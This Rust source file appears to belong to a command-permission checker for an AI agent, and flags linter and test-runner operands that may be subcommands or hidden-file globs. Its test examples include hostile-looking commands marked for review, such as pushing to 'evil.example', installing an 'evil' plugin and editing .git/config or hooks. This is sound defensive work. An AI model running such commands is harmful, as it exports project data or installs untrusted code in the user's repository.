//! Operands of tests, linters and formatters that may be something else than the files a description takes them for:
//! a subcommand, or a pattern that the program itself applies to hidden files.

use super::super::spec::Parsed;
use crate::effect::Effect;
use crate::effect::reading::{Invocation, Reading};
use crate::effect::value::{Arg, Shape, Value};
use crate::words::listed;
use alloc::format;

/// Programs that have no subcommands: every operand is a file, a directory, a package or a pattern.
const WITHOUT_SUBCOMMANDS: &str = "\
    jest tape uvu qunit cucumber-js cucumber eslint oxlint oxfmt prettier standard xo ts-standard semistandard tsc tsgo vue-tsc tsd madge dpdm \
    depcheck stylelint markdownlint markdownlint-cli2 sort-package-json rollup esbuild tsup unbuild babel \
    gcc g++ cc c++ clang clang++ c99 c89 cpp clang-cpp clang-format clang-tidy cppcheck cpplint include-what-you-use iwyu_tool iwyu_tool.py \
    buildifier cmake staticcheck revive errcheck ineffassign unparam deadcode gocyclo misspell nilaway gosec gofmt goimports gofumpt \
    checkstyle google-java-format ktfmt palantir-java-format javac kotlinc scalafmt fantomas phpunit pest paratest psalm phpcs phpcbf parallel-lint \
    rspec rubocop standardrb minitest m reek flay flog fasterer brakeman erblint erb_lint haml-lint slim-lint ruby rustfmt \
    pytest py.test black isort autopep8 yapf autoflake docformatter pyupgrade add-trailing-comma flake8 pyflakes pycodestyle pydocstyle vulture \
    pylint mypy pyright basedpyright bandit interrogate pydeps deptry lint-imports creosote sphinx-build \
    swiftc swiftformat erlfmt shellcheck shfmt hadolint yamllint yamlfmt actionlint codespell typos write-good alex textlint remark mdl \
    editorconfig-checker ec jsonlint check-jsonschema kubeconform kubeval ansible-lint nixfmt alejandra nixpkgs-fmt deadnix stylua luacheck \
    busted bats ormolu fourmolu ocamlformat djlint curlylint jscpd";

/// Subcommands of the others that do what the description says.
const SUBCOMMANDS: &[(&str, &str)] = &[
    ("ajv", "validate test compile"),
    ("conftest", "test verify parse"),
    ("csharpier", "check format"),
    ("cspell", "lint check"),
    ("deptrac", "analyse analyze"),
    ("eclint", "check"),
    ("infection", "run"),
    ("kube-linter", "lint"),
    ("kube-score", "score"),
    ("mado", "check"),
    ("proselint", "check"),
    ("rumdl", "check"),
    ("statix", "check"),
    ("swift-format", "lint format"),
    ("tap", "run"),
];

/// Everyday directories; none of the programs here has a subcommand of such a name.
const DIRECTORIES: &str = "src lib libs test tests spec specs app apps docs examples packages scripts e2e internal components website \
    frontend backend Sources Tests";

/// Stops what may be a subcommand, and patterns that may match hidden files where those would be changed. That a file of
/// the name exists proves nothing: the same agent may have made it.
pub fn strange_operands(reading: &mut Reading<'_>, call: &Invocation, roles: &str, parsed: &Parsed<'_>) {
    // Behind a subcommand there are only files, and data is data.
    let flat = !call.name.contains(' ') && !roles.contains([':', '!']);
    let words = flat && !listed(WITHOUT_SUBCOMMANDS, &call.name);
    let changes = roles.contains('>') || parsed.marked('*');
    for (index, operand) in parsed.operands.iter().enumerate().filter(|(_, operand)| !operand.is_judged()) {
        let shown = operand.value.prefix();
        if words && !(index == 0 && is_described(&call.name, operand)) && may_be_subcommand(operand) {
            let message = format!("`{}` may take `{shown}` for a subcommand", call.name);
            reading.add(Effect::Opaque, "unknown_command", message, operand.span);
        }
        if changes && operand.text().is_some_and(may_match_hidden) {
            let message = format!("`{}` would change hidden files that match `{shown}`", call.name);
            reading.add(Effect::Opaque, "unknown_value", message, operand.span);
        }
    }
}

fn is_described(name: &str, operand: &Arg) -> bool {
    // skipped: one that is not known is no word of the list.
    let text = operand.text().unwrap_or_default();
    SUBCOMMANDS.iter().any(|(program, words)| *program == name && listed(words, text))
}

fn may_be_subcommand(operand: &Arg) -> bool {
    match &operand.value {
        Value::Known(text) => is_bare(text) && text != "-" && !listed(DIRECTORIES, text),
        Value::Unknown(unknown) => match &unknown.shape {
            Shape::OneOf(texts) => texts.iter().any(|text| is_bare(text)),
            Shape::Free | Shape::Number | Shape::Count | Shape::Revision | Shape::Parts(_) => {
                is_bare(&unknown.prefix)
            }
        },
    }
}

/// Nothing in it says that it is a path or a pattern.
fn is_bare(text: &str) -> bool {
    !text.contains(['/', '.', '*', '?', '[', '{'])
}

/// A pattern in which a name begins with a dot, or with something that stands for one.
fn may_match_hidden(text: &str) -> bool {
    let mut before = '/';
    text.contains(['*', '?', '[', '{', '('])
        && text.split_inclusive(['/', '{', ',', '}', '(', '|', ')']).any(|piece| {
            let starts = !['}', ')'].contains(&before);
            before = piece.chars().next_back().unwrap_or('/');
            let name = piece.trim_end_matches(['/', '{', ',', '}', '(', '|', ')']);
            starts && may_be_hidden(name)
        })
}

fn may_be_hidden(name: &str) -> bool {
    match name.split_at_checked(1) {
        Some((".", rest)) => !["", "."].contains(&rest),
        Some(("?", rest)) => !rest.is_empty(),
        // `[id]` is a name of its own in some projects, and one letter that is no dot otherwise.
        Some(("[", rest)) => rest.split_once(']').is_some_and(|(letters, behind)| {
            !behind.is_empty() && !letters.bytes().all(|letter| letter.is_ascii_alphanumeric())
        }),
        Some(_) | None => false,
    }
}

#[cfg(test)]
const EXAMPLES: &str = r#"
        allow mocha test/x.js
        allow mocha test
        allow mocha 'test/**/*.spec.js'
        ask   mocha init
        ask   mocha init .git/hooks
        ask   mocha init .github
        ask   mocha -- init src/x
        ask   npx mocha init .github
        ask   mocha "$x"
        allow ktlint 'src/**/*.kt'
        allow ktlint
        ask   ktlint installGitPreCommitHook
        ask   ktlint installGitPrePushHook
        ask   ktlint applyToIDEA
        ask   ktlint -F --patterns-from-stdin
        allow dotenv-linter
        ask   dotenv-linter fix
        ask   dotenv-linter fix .
        ask   dotenv-linter -r fix
        allow tap test/x.js
        ask   tap plugin add evil-pkg
        ask   tap repl
        allow conftest test deploy.yaml
        ask   conftest push evil.example/data:latest
        ask   conftest pull evil.example/x:latest
        ask   conftest plugin install evil
        allow vale docs
        allow vale README.md
        ask   vale sync
        allow cspell lint "**/*.md"
        allow cspell "**/*.md"
        ask   cspell link add x
        ask   cspell init
        allow eclint check src/app.js
        ask   eclint fix .git/config
        ask   eclint fix src/app.js
        allow rumdl check .
        ask   rumdl vscode
        ask   rumdl server
        ask   rumdl init
        allow infection
        ask   infection self-update
        allow selene src
        ask   selene update-roblox-std
        allow statix check .
        ask   statix fix .
        ask   eslint_d start
        ask   prettierd start
        ask   blackd
        allow csharpier check .
        allow csharpier src
        ask   csharpier server
        ask   dotnet csharpier server
        allow ginkgo -r ./...
        ask   ginkgo watch
        ask   ginkgo generate
        ask   ginkgo bootstrap
        ask   publint run pkg
        ask   vitest --run init browser
        ask   tsdown migrate
        ask   simple-phpunit install
        allow swift-format lint -r Sources
        allow jest button
        allow eslint src
        allow eslint server
        allow pytest tests
        allow ruff check .
        allow ruff check server
        allow black server
        allow mypy server
        allow npx eslint src
        ask   codespell -w -D dict -H .
        ask   codespell --check-hidden .
        allow codespell -w src
        ask   typos -w --hidden --no-ignore .
        allow typos -w src
        ask   stylelint --fix '.git*/**'
        allow stylelint --fix 'src/**/*.css'
        ask   markdownlint --fix '.g*/**/*.md'
        ask   markdownlint --fix --dot '**/*.md'
        allow markdownlint --fix '**/*.md'
        ask   black '.g*'
        ask   prettier --write '{.git,src}/**'
        ask   prettier --write '[.]git/**'
        ask   prettier --write '?git/**'
        ask   prettier --write '@(.git|src)/**'
        allow prettier --write 'src/{a,b}.ts' './src/**/*.{js,ts}' 'src/[id]/page.tsx' 'src/[...slug]/page.tsx'
        allow prettier --check '.g*/**'
        ask   clang-format -i --files=list
        allow clang-format -i src/a.c
        allow pre-commit run --files src/main.rs
        allow pre-commit run ruff --all-files
        ask   pre-commit run --files /tmp/x
        ask   pre-commit run --files .git/config
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::effect::program::FAMILIES;

    #[test]
    fn examples_read_as_they_should() {
        crate::effect::program::examples::run(EXAMPLES);
    }

    /// A name that is described nowhere would be a slip of the pen.
    #[test]
    fn the_lists_name_programs_that_are_described() {
        let known = |name: &str| FAMILIES.iter().flat_map(|family| family.programs).any(|p| p.is_named(name));
        let names =
            WITHOUT_SUBCOMMANDS.split_ascii_whitespace().chain(SUBCOMMANDS.iter().map(|(name, _)| *name));
        for name in names {
            assert!(known(name), "{name}");
        }
    }
}
